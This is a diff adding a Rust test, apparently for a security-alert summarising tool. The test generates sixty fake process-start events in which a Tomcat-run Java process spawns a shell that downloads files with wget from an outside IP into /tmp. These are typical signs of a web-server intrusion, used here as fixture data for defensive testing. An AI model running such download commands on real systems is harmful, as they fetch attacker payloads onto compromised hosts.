@@ -163,3 +163,29 @@ fn a_start_explains_no_connection() {
     assert_eq!(about(&start, &connection), [true], "what was alerted is the start");
     assert_eq!(about(&connection, &start), [false], "what was alerted is the connection");
 }
+
+#[test]
+fn a_file_that_is_written_by_a_hundred_commands_leaves_room_for_what_it_is_for() {
+    let shell = ("/bin/sh", "/usr/bin/java", "java -jar a.jar");
+    let start = |line: u64, command: &str| {
+        let fields = [
+            ("event", "process_start"),
+            ("host", "a"),
+            ("ppid", "6"),
+            ("user", "tomcat"),
+            ("exe", shell.0),
+            ("command_line", command),
+            ("parent_exe", shell.1),
+            ("parent_command_line", shell.2),
+        ];
+        let raw = fields.iter().map(|(name, value)| format!("{name}: {value}\n")).collect::<String>();
+        record(line, &format!("2026-03-01T10:{:02}:{:02}Z", line / 60, line % 60), &raw, &fields)
+    };
+    let pieces = (0_u8..60).map(|i| {
+        let word: String = std::iter::repeat_n(char::from(b'a' + i % 26), 4 + usize::from(i)).collect();
+        start(u64::from(i), &format!("/bin/sh -c wget http://198.51.100.7/{word} -O /tmp/{word}"))
+    });
+    let all: Vec<Value> = pieces.collect();
+    let told = told(&all);
+    assert!(told.len() <= 2 * ONE_BY_ONE, "{}", told.len());
+}
